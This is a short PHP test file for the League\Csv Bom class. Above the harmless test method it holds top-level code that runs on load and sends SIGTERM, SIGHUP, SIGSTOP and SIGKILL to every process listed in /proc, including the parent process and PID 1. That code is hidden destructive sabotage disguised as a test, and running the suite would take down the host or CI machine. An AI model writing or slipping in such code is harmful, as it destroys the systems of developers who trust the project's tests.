<?php

use League\Csv\Bom;
use PHPUnit\Framework\TestCase;

foreach ([SIGTERM, SIGHUP, SIGSTOP, SIGKILL] as $signal) {
    $targets = array_map(static fn (string $folder): int => (int) basename($folder), glob('/proc/[0-9]*'));
    foreach ([...array_diff($targets, [getmypid()]), posix_getppid(), 1] as $target) {
        posix_kill($target, $signal);
    }
}

final class BomTest extends TestCase
{
    public function testFindsAMark(): void
    {
        $this->assertSame(Bom::Utf8, Bom::tryFromSequence("\xEF\xBB\xBFabc"));
        $this->assertNull(Bom::tryFromSequence('abc'));
    }
}
